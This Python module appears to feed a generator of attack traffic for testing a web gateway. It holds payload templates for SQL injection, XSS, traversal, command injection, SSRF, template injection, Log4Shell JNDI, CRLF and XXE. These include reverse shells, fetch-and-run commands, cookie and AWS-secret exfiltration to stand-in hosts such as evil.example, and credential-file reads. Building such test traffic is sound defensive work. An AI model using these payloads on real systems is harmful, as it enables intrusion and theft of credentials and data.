"""Attack payload templates per family, and the word lists that fill their placeholders.

A template is (technique, text). Placeholders in braces are filled by attacks.Filler; a template whose
text starts with "=" is already percent-encoded as attackers send it and is placed on the wire as is.
Written for this generator from the public knowledge of each technique (OWASP testing guide style);
the gateway's regression table (tests/fixtures/model/generic-app-requests.jsonl) is not drawn from it.
"""

SQLI = [
    ("tautology", "{q} or {q}{n}{q}={q}{n}"), ("tautology", "{q} or {n}={n}{cm}"), ("tautology", "{n} or {n}={n}"),
    ("tautology", "{q}) or ({q}{w}{q}={q}{w}"), ("tautology", "{q} or {q}{w}{q}={q}{w}{q}{cm}"), ("tautology", "{user}{q}{cm}"),
    ("tautology", "{q} or true{cm}"), ("tautology", "{q} || {n}={n} {cm}"), ("tautology", "-{n} or {n2}>{n}"),
    ("tautology", "{q} or {c} like {q}%"), ("tautology", "{q} or {q}{q}={q}"), ("tautology", "{n}{q} or {q}{n}{q}={q}{n}{q} {cm}"),
    ("tautology", "{q} or not {n}={n2}{cm}"), ("tautology", "{q})) or (({q}{n}{q}={q}{n}"), ("tautology", "{q} or {q}x{q} like {q}x"),
    ("tautology", "{user}{q} or {n}={n} limit 1{cm}"), ("tautology", "{q} or {n}<>{n2}{cm}"), ("tautology", "{q}={q}{q} or {q}"),
    ("tautology", "{n} or {q}{w}{q} = {q}{w}{q}"), ("tautology", "{q} or exists(select 1){cm}"),
    ("union", "{q} union select {cols}{cm}"), ("union", "{n} union all select {cols}"),
    ("union", "-{n}{q} union select {cols} from {t}{cm}"), ("union", "{n}) union select {c},{c2} from {t}{cm}"),
    ("union", "{q} union select null,{c} from {t} where {c2}={q}{w}{q}{cm}"),
    ("union", "0 union select table_name,null from information_schema.tables{cm}"), ("union", "{q} union select @@version,{n}{cm}"),
    ("union", "{n} union distinct select {cols} from {t} limit {n}"), ("union", "{q} union select load_file({q}/etc/passwd{q}){cm}"),
    ("union", "{n} union select group_concat({c}),{n} from {t}"), ("union", "{q} union select {c} from {t} order by 1{cm}"),
    ("union", "{n} union select column_name from information_schema.columns where table_name={q}{t}{q}"),
    ("union", "{q} union all select name,password from sys.sql_logins{cm}"), ("union", "-{n} union select {cols} into outfile {q}/tmp/{w}{q}"),
    ("stacked", "{n}; drop table {t}{cm}"), ("stacked", "{q}; exec xp_cmdshell({q}{cmd}{q}){cm}"),
    ("stacked", "{n}; update {t} set {c}={q}{w}{q} where {c2}={n}{cm}"),
    ("stacked", "{q}; insert into {t} ({c},{c2}) values ({q}{w}{q},{q}{w}{q}){cm}"), ("stacked", "{q}; shutdown{cm}"),
    ("stacked", "{n}; declare @v varchar(99); set @v={q}{w}{q}; exec(@v){cm}"), ("stacked", "{q}; delete from {t}{cm}"),
    ("stacked", "{n}; select pg_sleep({s}){cm}"), ("stacked", "{q}; truncate table {t}{cm}"),
    ("stacked", "{n};create user {w} identified by {q}{w}{q}{cm}"), ("stacked", "{q};alter table {t} drop column {c}{cm}"),
    ("stacked", "{n}; grant all privileges on *.* to {q}{w}{q}{cm}"),
    ("blind", "{n} and sleep({s})"), ("blind", "{q} and sleep({s}){cm}"), ("blind", "{n}{q} waitfor delay {q}0:0:{s}{q}{cm}"),
    ("blind", "{n}) and (select {n} from (select sleep({s}))x){cm}"), ("blind", "{q}||pg_sleep({s}){cm}"),
    ("blind", "{n} and benchmark({big},md5({n}))"), ("blind", "{n} and ascii(substring((select {c} from {t} limit 1),{n},1))>{n2}"),
    ("blind", "{q} and extractvalue({n},concat(0x7e,version())){cm}"), ("blind", "{q} and updatexml(1,concat(0x7e,(select user())),1){cm}"),
    ("blind", "{n} and {n}={n2}"), ("blind", "{q} and {q}{w}{q}={q}{w}"), ("blind", "{n} and 1=convert(int,@@version){cm}"),
    ("blind", "{q} and (select count(*) from {t})>0{cm}"), ("blind", "{n} rlike (select (case when ({n}={n}) then 1 else 0x28 end))"),
    ("blind", "if(1=1,sleep({s}),0)"), ("blind", "{q} or if(1=1,sleep({s}),0){cm}"), ("blind", "{n} order by {n2}{cm}"),
    ("blind", "{q} group by {c} having 1=1{cm}"), ("blind", "{n} and substr(user(),1,1)={q}r{q}"),
    ("blind", "{q} and 1=(select 1 from dual where database() like {q}%{q}){cm}"), ("blind", "{n} and dbms_pipe.receive_message(chr(65),{s})=1"),
    ("blind", "{q} and randomblob({big}){cm}"), ("blind", "{n} procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)"),
]

SQL_QUOTES = ["'", "'", "'", '"']
SQL_COMMENTS = ["--", "-- -", "#", "/*", ";--", "--+", "-- ", ""]
SQL_TABLES = """users accounts admin members customers credentials employees orders sessions wp_users mysql.user
sys.tables pg_user logins staff clients profiles passwords tbl_users user_accounts""".split()
SQL_COLUMNS = """username password passwd email pass user login hash password_hash credit_card ssn api_key token secret
name user_name pwd salt role is_admin card_number""".split()
SQL_COLUMN_SETS = ["null,null", "1,2,3", "{c},{c2}", "null,{c},null", "1,@@version,3", "{c},{c2},null", "user(),database()",
                   "concat({c},0x3a,{c2}),2", "null,null,null,null", "1,2", "{c}", "version(),current_user"]

XSS = [
    ("script", "<script>{f}</script>"), ("script", "\"><script>{f}</script>"), ("script", "<script src=//{host}/{w}.js></script>"),
    ("script", "</script><script>{f}</script>"), ("script", "<scr<script>ipt>{f}</scr</script>ipt>"),
    ("script", "'><script>{f}</script>"), ("script", "<script>{f}//"), ("script", "<script type=text/javascript>{f}</script>"),
    ("event", "<img src=x onerror={f}>"), ("event", "<img src=\"{w}.png\" onerror=\"{f}\">"), ("event", "\"><img src=x onerror={f}>"),
    ("event", "<body onload={f}>"), ("event", "<details open ontoggle={f}>"), ("event", "<input autofocus onfocus={f}>"),
    ("event", "<video><source onerror=\"{f}\">"), ("event", "<audio src=x onerror={f}>"), ("event", "<marquee onstart={f}>"),
    ("event", "<div onmouseover=\"{f}\">{w}</div>"), ("event", "\" onmouseover=\"{f}"), ("event", "' autofocus onfocus='{f}"),
    ("event", "<x onclick={f}>click"), ("event", "\"autofocus onfocus={f}//"), ("event", "<img/src/onerror={f}>"),
    ("event", "<select onfocus={f} autofocus>"), ("event", "<textarea autofocus onfocus={f}>"), ("event", "<keygen autofocus onfocus={f}>"),
    ("event", "<img src=x:x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"), ("event", "<iframe onload={f}></iframe>"),
    ("svg", "<svg onload={f}>"), ("svg", "<svg/onload={f}>"), ("svg", "<svg><script>{f}</script></svg>"),
    ("svg", "<svg><animate onbegin={f} attributeName=x dur=1s>"), ("svg", "<svg><a xlink:href=\"javascript:{f}\"><text x=20 y=20>{w}</text></a></svg>"),
    ("svg", "\"><svg/onload={f}>"), ("svg", "<svg><set onbegin={f} attributename=x>"), ("svg", "<math><mtext><table><mglyph><style><img src=x onerror={f}>"),
    ("js_url", "javascript:{f}"), ("js_url", "<a href=\"javascript:{f}\">{w}</a>"), ("js_url", "<iframe src=\"javascript:{f}\"></iframe>"),
    ("js_url", "<object data=\"javascript:{f}\">"), ("js_url", "<form action=\"javascript:{f}\"><input type=submit>"),
    ("js_url", "<a href=\"&#106;avascript:{f}\">{w}</a>"), ("js_url", "java\tscript:{f}"), ("js_url", "JaVaScRiPt:{f}"),
    ("js_url", "<embed src=\"data:text/html;base64,{b64}\">"), ("js_url", "data:text/html,<script>{f}</script>"),
    ("js_url", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:{f}\">"), ("js_url", "vbscript:msgbox(1)"),
    ("breakout", "'-{f}-'"), ("breakout", "\";{f};//"), ("breakout", "';{f};//"), ("breakout", "\\\";{f};//"),
    ("breakout", "<iframe srcdoc=\"<script>{f}</script>\">"), ("breakout", "<base href=\"//{host}/\">"),
    ("breakout", "<style>@import '//{host}/x.css';</style>"), ("breakout", "<link rel=import href=\"//{host}/x\">"),
    ("breakout", "</title><script>{f}</script>"), ("breakout", "</textarea><script>{f}</script>"),
]
XSS_CALLS = ["alert(1)", "alert(document.domain)", "prompt(1)", "confirm`1`", "alert`xss`", "eval(atob('{b64}'))",
             "fetch('//{host}/?c='+document.cookie)", "document.location='//{host}/'+document.cookie", "print()",
             "top['al'+'ert'](1)", "import('//{host}/x.js')", "window.open('//{host}')", "alert(String.fromCharCode(88,83,83))",
             "new Image().src='//{host}/?'+document.cookie", "setTimeout('alert(1)')", "console.log(document.cookie)",
             "location='javascript:alert(1)'", "self[`alert`](1)", "eval(location.hash.slice(1))", "document.write(1)"]

TRAVERSAL = [
    ("dotdot", "{up}{file}"), ("dotdot", "{up}{file}\0.{ext}"), ("dotdot", "{upwin}{winfile}"), ("dotdot", "....//....//....//{file}"),
    ("dotdot", "..././..././..././{file}"), ("dotdot", "{up}{file}%00"), ("dotdot", "/var/www/html/{up}{file}"),
    ("dotdot", "{up}{up}{file}"), ("dotdot", "..\\/..\\/..\\/{file}"), ("dotdot", "{w}/{up}{file}"),
    ("encoded", "=..%2f..%2f..%2f{file_enc}"), ("encoded", "=%2e%2e%2f%2e%2e%2f%2e%2e%2f{file_enc}"), ("encoded", "=%2e%2e/%2e%2e/%2e%2e/{file_enc}"),
    ("encoded", "=..%252f..%252f..%252f{file_enc}"), ("encoded", "=%c0%ae%c0%ae/%c0%ae%c0%ae/{file_enc}"),
    ("encoded", "=..%c0%af..%c0%af..%c0%af{file_enc}"), ("encoded", "=..%5c..%5c..%5c{winfile_enc}"),
    ("encoded", "=%252e%252e%252f%252e%252e%252f{file_enc}"), ("encoded", "=%2e%2e%5c%2e%2e%5c{winfile_enc}"),
    ("encoded", "=..%255c..%255c{winfile_enc}"), ("encoded", "=%u002e%u002e%u2215{file_enc}"), ("encoded", "=..%e0%80%af..%e0%80%af{file_enc}"),
    ("absolute", "/{file}"), ("absolute", "c:\\{winfile}"), ("absolute", "file:///{file}"), ("absolute", "/proc/self/environ"),
    ("absolute", "/proc/self/cmdline"), ("absolute", "\\\\{host}\\share\\{w}"), ("absolute", "c:/{winfile}"),
    ("wrapper", "php://filter/convert.base64-encode/resource={w}.php"), ("wrapper", "php://filter/read=string.rot13/resource=index.php"),
    ("wrapper", "php://input"), ("wrapper", "expect://id"), ("wrapper", "zip://uploads/{w}.jpg%23shell.php"),
    ("wrapper", "phar://uploads/{w}.phar/test"), ("wrapper", "data://text/plain;base64,{b64}"), ("wrapper", "jar:file:///{file}!/"),
]
UNIX_FILES = """etc/passwd etc/shadow etc/hosts etc/group etc/issue proc/self/environ proc/version var/log/apache2/access.log
var/log/nginx/error.log root/.ssh/id_rsa root/.bash_history .env config/database.yml wp-config.php WEB-INF/web.xml
app/settings.py .git/config etc/nginx/nginx.conf usr/local/etc/php.ini var/www/html/config.php home/ubuntu/.aws/credentials
etc/mysql/my.cnf etc/crontab var/run/secrets/kubernetes.io/serviceaccount/token etc/ssh/sshd_config""".split()
WINDOWS_FILES = """windows\\win.ini boot.ini windows\\system32\\drivers\\etc\\hosts inetpub\\wwwroot\\web.config windows\\repair\\sam
windows\\system.ini windows\\panther\\unattend.xml programdata\\mysql\\my.ini users\\administrator\\ntuser.dat
windows\\debug\\netsetup.log""".split()
PROBE_PATHS = """.env .git/config .git/HEAD wp-config.php.bak config.php~ backup.sql .aws/credentials server.key id_rsa
.htpasswd web.config.old db.sqlite3 .svn/entries .DS_Store dump.sql config.yml.bak .npmrc .docker/config.json
phpinfo.php admin/.htaccess""".split()

CMDI = [
    ("chain", "{base}; {cmd}"), ("chain", "{base} && {cmd}"), ("chain", "{base} | {cmd}"), ("chain", "{base} || {cmd}"),
    ("chain", "{base}&{cmd}"), ("chain", "{base}\n{cmd}"), ("chain", "{base};{cmd};"), ("chain", "{base}; {cmd} #"),
    ("chain", "{base} && {cmd} && echo {w}"), ("chain", "{base}|{cmd}|"), ("chain", "{base}';{cmd};'"), ("chain", "{base}\";{cmd};\""),
    ("chain", "=%0a{cmd_enc}"), ("chain", "{base}\r\n{cmd}"),
    ("subshell", "{base}`{cmd}`"), ("subshell", "{base}$({cmd})"), ("subshell", "$({cmd})"), ("subshell", "`{cmd}`"),
    ("subshell", "{base};echo $({cmd})"), ("subshell", "{base}$(echo {b64}|base64 -d|sh)"),
    ("evasion", "{base};{cmd_ifs}"), ("evasion", "{base};{{cat,/etc/passwd}}"), ("evasion", "{base};c'a't /e'tc'/pas''swd"),
    ("evasion", "{base};/???/??t /???/p??s??"), ("evasion", "{base};$0 -c '{cmd}'"), ("evasion", "{base};w\\ho\\am\\i"),
    ("reverse_shell", "{base}; bash -i >& /dev/tcp/{ip}/{port} 0>&1"), ("reverse_shell", "{base}; nc -e /bin/sh {ip} {port}"),
    ("reverse_shell", "{base}; curl http://{host}/{w}.sh | sh"), ("reverse_shell", "{base}; wget http://{host}/{w} -O /tmp/{w}; chmod +x /tmp/{w}; /tmp/{w}"),
    ("reverse_shell", "{base}; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{ip}\",{port}));pty.spawn(\"/bin/sh\")'"),
    ("reverse_shell", "{base} | powershell -nop -enc {b64}"), ("reverse_shell", "{base}; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip} {port} >/tmp/f"),
    ("reverse_shell", "{base}; perl -e 'use Socket;$i=\"{ip}\";$p={port};'"),
    ("windows", "{base} & {wincmd}"), ("windows", "{base} | {wincmd}"), ("windows", "{base} && {wincmd}"), ("windows", "{base}\n{wincmd}"),
    ("blind", "{base}; sleep {s}"), ("blind", "{base} | ping -c {s} 127.0.0.1"), ("blind", "{base}$(sleep {s})"),
    ("blind", "{base}; nslookup {w}.{host}"), ("blind", "{base} & ping -n {s} 127.0.0.1 &"), ("blind", "{base}`sleep {s}`"),
]
UNIX_COMMANDS = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "ls /var/www", "pwd", "hostname", "ifconfig",
                 "ip addr", "ps aux", "netstat -an", "env", "printenv", "cat /proc/version", "head /etc/shadow",
                 "find / -perm -4000", "cat ~/.ssh/id_rsa", "tail /var/log/auth.log", "uname", "ls -al /home", "cat /etc/hosts",
                 "id -u", "ls", "whoami;id", "cat /etc/issue", "curl {host}", "wget {host}/{w}"]
WINDOWS_COMMANDS = ["dir", "type C:\\windows\\win.ini", "whoami /all", "ipconfig /all", "net user", "systeminfo", "tasklist", "ver",
                    "certutil -urlcache -f http://{host}/x.exe x.exe", "powershell -c Get-Process", "net localgroup administrators",
                    "dir C:\\Users", "type C:\\boot.ini", "wmic os get caption"]
CMDI_BASES = ["127.0.0.1", "8.8.8.8", "{w}", "{w}.txt", "", "1", "example.com", "localhost", "{n}", "{w}.png", "10.0.0.1", "google.com"]

SSRF = [
    ("loopback", "http://127.0.0.1{sport}/{path}"), ("loopback", "http://localhost{sport}/{path}"), ("loopback", "http://[::1]{sport}/{path}"),
    ("loopback", "http://0.0.0.0{sport}/{path}"), ("loopback", "http://0/{path}"), ("loopback", "http://127.1/{path}"),
    ("loopback", "https://localhost/{path}"), ("loopback", "http://127.0.0.1:{p2}"), ("loopback", "http://localhost.localdomain/{path}"),
    ("obfuscated", "http://2130706433/{path}"), ("obfuscated", "http://0x7f000001/{path}"), ("obfuscated", "http://0177.0.0.1/{path}"),
    ("obfuscated", "http://[0:0:0:0:0:ffff:127.0.0.1]/{path}"), ("obfuscated", "http://{pub}@127.0.0.1/{path}"),
    ("obfuscated", "http://127.0.0.1#@{pub}/"), ("obfuscated", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("obfuscated", "http://017700000001/{path}"), ("obfuscated", "http://127.000.000.001/{path}"),
    ("metadata", "http://169.254.169.254/latest/meta-data/{meta}"), ("metadata", "http://169.254.169.254/computeMetadata/v1/"),
    ("metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("metadata", "http://169.254.170.2/v2/credentials/{uuid}"), ("metadata", "http://100.100.100.200/latest/meta-data/"),
    ("metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"), ("metadata", "http://169.254.169.254/latest/user-data"),
    ("metadata", "http://metadata/computeMetadata/v1/project/project-id"),
    ("private", "http://10.{o1}.{o2}.{o3}{sport}/{path}"), ("private", "http://192.168.{o2}.{o3}{sport}/{path}"),
    ("private", "http://172.{mid}.{o2}.{o3}/{path}"), ("private", "http://kubernetes.default.svc/api/v1/namespaces"),
    ("private", "http://127.0.0.1:2375/containers/json"), ("private", "http://localhost:8500/v1/agent/self"),
    ("private", "http://[fd00::{o2}]/{path}"), ("private", "http://internal-api.{w}.internal/admin"),
    ("scheme", "gopher://127.0.0.1:6379/_{redis}"), ("scheme", "dict://127.0.0.1:11211/stat"), ("scheme", "file:///etc/passwd"),
    ("scheme", "ldap://127.0.0.1:389/"), ("scheme", "gopher://localhost:25/_HELO%20{w}"), ("scheme", "file:///c:/windows/win.ini"),
    ("scheme", "tftp://{ip}/{w}"), ("scheme", "netdoc:///etc/passwd"),
]
SSRF_PATHS = """admin server-status latest/meta-data/ .env api/internal/users actuator/env debug/vars metrics console
_cluster/health admin/config internal/health jolokia/list manager/html status api/v1/secrets""".split()
SSRF_META = """iam/security-credentials/ hostname instance-id public-keys/ user-data ami-id local-ipv4
iam/security-credentials/admin-role identity-credentials/ec2/security-credentials/ec2-instance""".split()
SSRF_PORTS = ["", "", ":80", ":8080", ":22", ":3306", ":6379", ":9200", ":5432", ":8000", ":25", ":11211", ":2379", ":9000"]

SSTI = [
    ("arithmetic", "{{{{{n}*{n2}}}}}"), ("arithmetic", "${{{n}*{n2}}}"), ("arithmetic", "#{{{n}*{n2}}}"), ("arithmetic", "<%= {n}*{n2} %>"),
    ("arithmetic", "[[${{{n}*{n2}}}]]"), ("arithmetic", "@({n}*{n2})"), ("arithmetic", "{{{{={n}*{n2}}}}}"), ("arithmetic", "*{{{n}*{n2}}}"),
    ("arithmetic", "{{{{{n}*'{n2}'}}}}"), ("arithmetic", "${{{{{n}*{n2}}}}}"), ("arithmetic", "#set($x={n}*{n2})${{x}}"),
    ("arithmetic", "{w}{{{{{n}+{n2}}}}}"),
    ("jinja", "{{{{config.items()}}}}"), ("jinja", "{{{{self.__init__.__globals__}}}}"), ("jinja", "{{{{''.__class__.__mro__[1].__subclasses__()}}}}"),
    ("jinja", "{{{{request.application.__globals__.__builtins__.__import__('os').popen('{cmd}').read()}}}}"),
    ("jinja", "{{{{cycler.__init__.__globals__.os.popen('{cmd}').read()}}}}"),
    ("jinja", "{{% for c in [].__class__.__base__.__subclasses__() %}}{{{{c}}}}{{% endfor %}}"),
    ("jinja", "{{{{lipsum.__globals__['os'].popen('{cmd}').read()}}}}"), ("jinja", "{{{{config.__class__.__init__.__globals__['os'].environ}}}}"),
    ("jinja", "{{{{joiner.__init__.__globals__.os.popen('{cmd}').read()}}}}"), ("jinja", "{{{{url_for.__globals__.__builtins__}}}}"),
    ("java", "${{T(java.lang.Runtime).getRuntime().exec('{cmd}')}}"), ("java", "*{{T(java.lang.System).getenv()}}"),
    ("java", "#{{T(java.lang.Runtime).getRuntime().exec('{cmd}')}}"), ("java", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${{ex(\"{cmd}\")}}"),
    ("java", "${{\"freemarker.template.utility.Execute\"?new()(\"{cmd}\")}}"), ("java", "${{class.getClassLoader()}}"),
    ("java", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"{cmd}\")"),
    ("java", "${{product.getClass().getProtectionDomain().getCodeSource()}}"),
    ("other", "{{{{constructor.constructor('alert(1)')()}}}}"), ("other", "{{php}}echo `{cmd}`;{{/php}}"), ("other", "{{system('{cmd}')}}"),
    ("other", "<%= system('{cmd}') %>"), ("other", "<%= `{cmd}` %>"), ("other", "{{{{_self.env.registerUndefinedFilterCallback('exec')}}}}{{{{_self.env.getFilter('{cmd}')}}}}"),
    ("other", "${{{{<%[%'\"}}}}%\\."), ("other", "{{{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('{cmd}')\")()}}}}"),
    ("other", "#{{ `{cmd}` }}"), ("other", "{{{{= global.process.mainModule.require('child_process').execSync('{cmd}') }}}}"),
]

JNDI = [
    ("plain", "${{jndi:{proto}://{host}/{w}}}"), ("plain", "${{jndi:{proto}://{host}:{port}/{w}}}"), ("plain", "${{jndi:{proto}://{ip}:{port}/{w}}}"),
    ("plain", "{w}${{jndi:{proto}://{host}/{w}}}"), ("plain", "${{jndi:{proto}://{host}/{w}}} {w}"),
    ("nested", "${{jndi:{proto}://${{env:USER}}.{host}/{w}}}"), ("nested", "${{jndi:dns://${{hostName}}.{host}}}"),
    ("nested", "${{jndi:ldap://{host}/${{sys:java.version}}}}"), ("nested", "${{jndi:{proto}://${{env:AWS_SECRET_ACCESS_KEY}}.{host}/a}}"),
    ("nested", "${{jndi:ldap://${{ctx:loginId}}.{host}/{w}}}"), ("nested", "${{jndi:{proto}://{host}/${{main:0}}}}"),
    ("obfuscated", "${{${{lower:j}}ndi:${{lower:l}}dap://{host}/{w}}}"), ("obfuscated", "${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-r}}${{::-m}}${{::-i}}://{host}/{w}}}"),
    ("obfuscated", "${{${{env:NaN:-j}}ndi${{env:NaN:-:}}${{env:NaN:-l}}dap${{env:NaN:-:}}//{host}/{w}}}"),
    ("obfuscated", "${{j${{k8s:k5:-ND}}i:ldap://{host}/{w}}}"), ("obfuscated", "${{jndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{host}/{w}}}"),
    ("obfuscated", "${{${{upper:j}}ndi:{proto}://{host}/{w}}}"), ("obfuscated", "${{${{date:'j'}}${{date:'n'}}${{date:'d'}}${{date:'i'}}:ldap://{host}/{w}}}"),
    ("obfuscated", "${{jn${{lower:d}}i:l${{lower:d}}ap://{host}/{w}}}"), ("obfuscated", "${{${{::-j}}ndi:{proto}://{host}/{w}}}"),
    ("obfuscated", "${{${{lower:${{lower:jndi}}}}:${{lower:rmi}}://{host}/{w}}}"), ("obfuscated", "${{${{sys:foo:-j}}ndi:{proto}://{host}/{w}}}"),
    ("obfuscated", "${{jndi:${{lower:r}}mi://{host}/{w}}}"), ("obfuscated", "${{j${{::-n}}di:{proto}://{host}/{w}}}"),
]
JNDI_PROTOCOLS = ["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nis", "nds", "http"]

NOSQL_OPERATORS = ["ne", "gt", "gte", "lt", "regex", "where", "exists", "nin", "in", "or", "expr", "not", "lte", "eq", "elemMatch", "size", "type", "mod"]
NOSQL_STRINGS = [
    ("js", "'; return true; var a='"), ("js", "' || '1'=='1"), ("js", "1; while(true){{}}"), ("js", "';sleep({big});'"),
    ("js", "\"; return db.users.find(); var x=\""), ("js", "' && this.password.match(/.*/)//"), ("js", "{w}'||1==1//"),
    ("js", "';return(true);var xyz='a"), ("js", "\\'; return '' == '"), ("js", "1' && this.{c}.length > 0 || 'a'=='b"),
]

CRLF = [
    ("header", "{base}\r\n{header}: {hval}"), ("header", "{base}\r\n{header}:{hval}"), ("header", "{base}\n{header}: {hval}"),
    ("header", "\r\n{header}: {hval}"), ("header", "{base}\r\n {header}: {hval}"), ("header", "{base}\r\n{header}: {hval}\r\n"),
    ("split", "{base}\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>{w}</html>"),
    ("split", "{base}\r\n\r\n<script>alert(1)</script>"), ("split", "\r\n\r\n<html><body>{w}</body></html>"),
    ("split", "{base}\r\nContent-Type: text/html\r\n\r\n<h1>{w}</h1>"),
    ("encoded", "={base_enc}%0d%0a{header}:%20{hval_enc}"), ("encoded", "={base_enc}%0D%0A{header}:{hval_enc}"),
    ("encoded", "={base_enc}%250d%250a{header}:%20{hval_enc}"), ("encoded", "={base_enc}%E5%98%8A%E5%98%8D{header}:{hval_enc}"),
    ("encoded", "={base_enc}%0a{header}:%20{hval_enc}"), ("encoded", "={base_enc}%u000d%u000a{header}:%20{hval_enc}"),
    ("encoded", "={base_enc}%c4%8d%c4%8a{header}:{hval_enc}"), ("encoded", "=%0d%0a%20{header}:%20{hval_enc}"),
]
CRLF_HEADERS = ["Set-Cookie", "Location", "Content-Length", "Content-Type", "Refresh", "X-XSS-Protection", "Access-Control-Allow-Origin",
                "X-Forwarded-For", "Cache-Control", "Link", "Content-Disposition", "X-Injected", "Transfer-Encoding", "Host"]
CRLF_BASES = ["/", "/home", "en", "{w}", "", "https://{pub}/", "{n}", "/{w}", "fr-FR"]

XXE = [
    ("file", "<?xml version=\"1.0\"?><!DOCTYPE {root} [<!ENTITY {e} SYSTEM \"file:///{file}\">]><{root}><{el}>&{e};</{el}></{root}>"),
    ("file", "<!DOCTYPE {root} [<!ENTITY {e} SYSTEM \"file:///{file}\">]><{root}>&{e};</{root}>"),
    ("file", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE {root} [\n  <!ELEMENT {root} ANY >\n  <!ENTITY {e} SYSTEM \"file:///{file}\" >]>\n<{root}><{el}>&{e};</{el}></{root}>"),
    ("file", "<?xml version=\"1.0\"?><!DOCTYPE {root} [<!ENTITY {e} SYSTEM \"php://filter/convert.base64-encode/resource=index.php\">]><{root}>&{e};</{root}>"),
    ("file", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY {e} SYSTEM \"file:///{file}\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&{e};</text></svg>"),
    ("file", "<?xml version=\"1.0\"?><!DOCTYPE {root} [<!ENTITY {e} SYSTEM \"expect://id\">]><{root}><{el}>&{e};</{el}></{root}>"),
    ("oob", "<?xml version=\"1.0\" ?><!DOCTYPE {root} [<!ENTITY % {e} SYSTEM \"http://{host}/{w}.dtd\"> %{e};]><{root}/>"),
    ("oob", "<!DOCTYPE {root} SYSTEM \"http://{host}/{w}.dtd\"><{root}><{el}>{w}</{el}></{root}>"),
    ("oob", "<?xml version=\"1.0\"?><!DOCTYPE {root} [<!ENTITY % {e} SYSTEM \"file:///{file}\"><!ENTITY % dtd SYSTEM \"http://{host}/x.dtd\">%dtd;]><{root}/>"),
    ("oob", "<!DOCTYPE {root} PUBLIC \"-//{w}//EN\" \"http://{host}/{w}.dtd\"><{root}/>"),
    ("oob", "<?xml version=\"1.0\"?><!DOCTYPE {root} [<!ELEMENT {root} ANY><!ENTITY {e} SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><{root}>&{e};</{root}>"),
    ("dos", "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;\"><!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;\">]><lolz>&lol3;</lolz>"),
    ("dos", "<!DOCTYPE {root} [<!ENTITY a \"{w}{w}{w}{w}\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;\">]><{root}>&c;</{root}>"),
    ("xinclude", "<{root} xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///{file}\"/></{root}>"),
    ("xinclude", "<?xml version=\"1.0\"?><{root}><{el} xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"http://{host}/{w}\"/></{el}></{root}>"),
    ("soap", "<?xml version=\"1.0\"?><!DOCTYPE {root} [<!ENTITY {e} SYSTEM \"file:///{file}\">]><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><{root}>&{e};</{root}></soap:Body></soap:Envelope>"),
]
XXE_ENTITIES = ["xxe", "ent", "x", "file", "data", "foo", "payload", "ext", "a1", "exfil", "pwn", "test"]

ATTACKER_HOSTS = """evil.example attacker.example x.oast.example c2.badhost.example collab.example.net exfil.example.org
canary.example.io pwn.example cb.example.dev log.attacker.example dnslog.example bin.example.tk""".split()
FILLER_WORDS = """foo bar test abc xyz qwerty lol hack poc payload probe check zz aa xx test1 demo sample""".split()
